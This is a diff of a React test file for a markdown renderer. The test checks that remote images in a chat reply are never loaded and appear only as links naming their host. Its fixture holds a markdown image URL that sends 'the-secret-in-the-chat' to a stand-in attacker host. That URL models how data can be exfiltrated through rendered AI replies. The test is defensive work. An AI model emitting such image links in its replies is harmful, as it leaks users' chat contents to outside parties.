@@ -1,5 +1,4 @@
 import { render, screen } from '@testing-library/react';
-import userEvent from '@testing-library/user-event';
 import { describe, expect, it } from 'vitest';
 import { MarkdownContent } from './markdown-content';
 
@@ -7,16 +6,14 @@ const PIXEL =
   'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
 
 describe('images in a reply', () => {
-  it('never loads a remote image by itself: it waits behind a button naming the host', async () => {
+  it('never loads a remote image: it becomes a link naming the host', () => {
     const { container } = render(
       <MarkdownContent content="Here: ![chart](https://attacker.example/collect?q=the-secret-in-the-chat)" />,
     );
     expect(container.querySelector('img')).toBeNull();
-    const button = screen.getByRole('button', { name: /Image: chart.*Load from attacker\.example/ });
-    await userEvent.click(button);
-    expect(container.querySelector('img')?.getAttribute('src')).toBe(
-      'https://attacker.example/collect?q=the-secret-in-the-chat',
-    );
+    const link = screen.getByRole('link', { name: 'Image: chart (attacker.example)' });
+    expect(link.getAttribute('href')).toBe('https://attacker.example/collect?q=the-secret-in-the-chat');
+    expect(link.getAttribute('rel')).toContain('noreferrer');
   });
 
   it('shows inline data and same-origin images', () => {
